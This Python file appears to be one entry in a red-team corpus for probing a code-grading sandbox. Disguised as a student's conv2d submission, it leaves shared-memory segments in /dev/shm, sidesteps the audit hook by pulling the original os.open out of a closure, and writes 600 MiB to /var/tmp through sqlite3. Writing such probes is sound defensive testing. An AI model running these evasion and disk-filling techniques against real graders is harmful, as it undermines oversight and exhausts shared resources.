"""Escape corpus, attack 9: residue that outlives the run (shared memory, 600 MiB on disk).

What it attacks: killing the child's processes does not remove what it created outside
its folder. The submission leaves POSIX shared-memory segments in /dev/shm three ways
(``multiprocessing.shared_memory``, whose resource tracker cannot start, so nobody will
unlink it; ``_posixshmem.shm_open``; ``os.open`` on /dev/shm through the original
``os.open`` from the guard's closure with a directory descriptor), then writes 600 MiB:
first into its own run folder (is it size-capped?), then outside it, through sqlite3
(C-level I/O the audit hook does not see) as forty 15 MiB databases in /var/tmp, each
below RLIMIT_FSIZE.

A successful attack: ``cnngrade-escape-*`` entries left in /dev/shm or /var/tmp after the
run. Contained: /dev/shm and /var/tmp are the sandbox's own (or absent), its folder is a
size-capped tmpfs (ENOSPC long before 600 MiB), and everything goes with the run. Bounded:
about 3.5 s of writing at most.
"""
import os
import sqlite3
import time

REPORT = {}
CHUNK = 15 << 20
TOTAL = 600 << 20


def _raw_open():
    for cell in getattr(os.open, "__closure__", None) or ():
        value = cell.cell_contents
        if getattr(value, "__name__", "") == "open" and callable(value):
            return value
    return os.open


def _shm():
    made = []
    try:
        from multiprocessing import shared_memory
        seg = shared_memory.SharedMemory(name="cnngrade-escape-shm", create=True, size=1 << 20)
        seg.buf[:16] = b"cnngrade-escape!"
        made.append("shared_memory")
    except BaseException as exc:  # the tracker's fork is refused after the segment exists
        made.append(f"shared_memory: {type(exc).__name__}")
    try:
        import _posixshmem
        fd = _posixshmem.shm_open("/cnngrade-escape-shm-posix", os.O_CREAT | os.O_RDWR, 0o600)
        os.ftruncate(fd, 1 << 20)
        os.write(fd, b"cnngrade-escape")
        os.close(fd)
        made.append("shm_open")
    except BaseException as exc:
        made.append(f"shm_open: {type(exc).__name__}")
    try:
        op = _raw_open()
        root = op("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            fd = op("dev/shm/cnngrade-escape-shm-open", os.O_CREAT | os.O_WRONLY, 0o600,
                    dir_fd=root)
        finally:
            os.close(root)
        os.write(fd, b"cnngrade-escape")
        os.close(fd)
        made.append("os.open")
    except BaseException as exc:
        made.append(f"os.open: {type(exc).__name__}")
    return made


def _fill(deadline):
    here = os.path.dirname(os.path.abspath(__file__))
    block = b"\0" * CHUNK
    inside = 0
    for i in range(TOTAL // CHUNK):
        if time.monotonic() > deadline - 2.0:
            break
        try:
            with open(os.path.join(here, f"fill-{i:02d}.bin"), "wb") as fh:
                fh.write(block)
            inside += CHUNK
        except OSError as exc:
            REPORT["inside_error"] = exc.strerror
            break
    for i in range(TOTAL // CHUNK):  # free the run folder again before the outside fill
        try:
            os.remove(os.path.join(here, f"fill-{i:02d}.bin"))
        except OSError:
            pass
    outside = 0
    for i in range(TOTAL // CHUNK):
        if time.monotonic() > deadline:
            break
        try:
            con = sqlite3.connect(f"/var/tmp/cnngrade-escape-fill-{i:02d}.db")
            con.execute("CREATE TABLE IF NOT EXISTS fill (b BLOB)")
            con.execute("INSERT INTO fill VALUES (zeroblob(?))", (CHUNK - (64 << 10),))
            con.commit()
            con.close()
            outside += CHUNK
        except sqlite3.Error as exc:
            REPORT["outside_error"] = str(exc)
            break
    return inside >> 20, outside >> 20


try:
    start = time.monotonic()
    REPORT["shm"] = _shm()
    REPORT["MiB inside, outside"] = _fill(start + 3.5)
except BaseException as exc:
    REPORT["error"] = repr(exc)
print("cnngrade-escape report:", REPORT)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    return _honest_conv2d(x, w, b, stride, padding)
